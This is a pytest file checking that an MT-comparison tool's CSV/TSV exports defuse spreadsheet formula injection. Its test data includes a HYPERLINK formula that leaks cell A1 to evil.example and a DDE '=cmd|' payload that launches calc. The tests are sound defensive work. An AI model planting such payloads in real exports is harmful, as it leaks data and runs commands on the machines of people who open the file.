"""Spreadsheet formula injection: every TSV/CSV export quotes would-be formulas (OWASP),
keeps plain numbers numbers, and writes cells unchanged with ``--raw``."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import pytest

from mtcompare.cli.app import main
from mtcompare.render.sheet import sheet_cell

REPO = Path(__file__).resolve().parents[1]
REF = REPO / "references" / "example.en.txt"
MT_A = REPO / "examples" / "mt_a.txt"
LINK = '=HYPERLINK("http://evil.example/?leak="&A1,"Read more")'


@pytest.mark.parametrize(
    ("value", "cell"),
    [
        ("=1+1", "'=1+1"),
        ("+49 30 1234", "'+49 30 1234"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
        ("\t=cmd", "'\t=cmd"),
        ("\r=cmd", "'\r=cmd"),
        ("-3.5", "-3.5"),
        ("+7", "+7"),
        ("-1e-3", "-1e-3"),
        (-3.5, "-3.5"),
        ("-", "-"),  # the placeholder of a missing score
        ("- a list item", "'- a list item"),
        ("a=b", "a=b"),
        (None, ""),
        ("", ""),
    ],
)
def test_sheet_cell(value: object, cell: str) -> None:
    assert sheet_cell(value) == cell
    assert sheet_cell(value, raw=True) == ("" if value is None else str(value))


@pytest.fixture()
def hostile_mt(tmp_path: Path) -> Path:
    """mt_a with a formula as a whole sentence (an MT addition)."""
    hyp = tmp_path / "hostile.txt"
    hyp.write_text(f"{MT_A.read_text('utf-8')}\n{LINK}\n", "utf-8")
    return hyp


def rows_of(text: str, delimiter: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text), delimiter=delimiter))


def cli(capsys: pytest.CaptureFixture[str], *args: object) -> str:
    code = main([str(a) for a in args])
    out, err = capsys.readouterr()
    assert code == 0, err
    return out


def test_score_tsv(capsys: pytest.CaptureFixture[str], hostile_mt: Path) -> None:
    args = ["score", "-r", REF, hostile_mt, "-n", "@sys", "-f", "tsv", "-q", "--no-save"]
    rows = rows_of(cli(capsys, *args), "\t")
    assert {r["system"] for r in rows} == {"'@sys"}
    added = [r for r in rows if r["bead"] == "0-1" and "HYPERLINK" in r["hyp"]]
    assert [r["hyp"] for r in added] == ["'" + LINK]
    assert all(float(r["chrf"]) >= 0 for r in rows)  # scores stay numbers
    raw = rows_of(cli(capsys, *args, "--raw"), "\t")
    assert {r["system"] for r in raw} == {"@sys"} and LINK in [r["hyp"] for r in raw]


def test_diff_csv_and_tsv(capsys: pytest.CaptureFixture[str], hostile_mt: Path) -> None:
    for fmt, delimiter in (("csv", ","), ("tsv", "\t")):
        args = ["diff", "-r", REF, hostile_mt, "-n", "-x", "-f", fmt, "-q"]
        rows = rows_of(cli(capsys, *args), delimiter)
        assert rows and {r["system"] for r in rows} == {"'-x"}
        added = [r for r in rows if r["category"] == "addition" and "HYPERLINK" in r["hyp"]]
        assert added and all(r["hyp"] == "'" + LINK for r in added)
        raw = rows_of(cli(capsys, *args, "--raw"), delimiter)
        assert LINK in [r["hyp"] for r in raw] and {r["system"] for r in raw} == {"-x"}


def test_runs_export_label_and_name(capsys: pytest.CaptureFixture[str]) -> None:
    cli(capsys, "score", "-r", REF, MT_A, "-n", "+sys", "--label", "=cmd|'/c calc'!A0", "-q")
    rows = rows_of(cli(capsys, "runs", "export"), ",")
    assert {r["label"] for r in rows} == {"'=cmd|'/c calc'!A0"}
    assert {r["system"] for r in rows} == {"'+sys"}
    assert all(float(r["value"]) == float(r["value"]) for r in rows)  # values are numbers
    raw = rows_of(cli(capsys, "runs", "export", "--raw"), ",")
    assert {r["label"] for r in raw} == {"=cmd|'/c calc'!A0"}
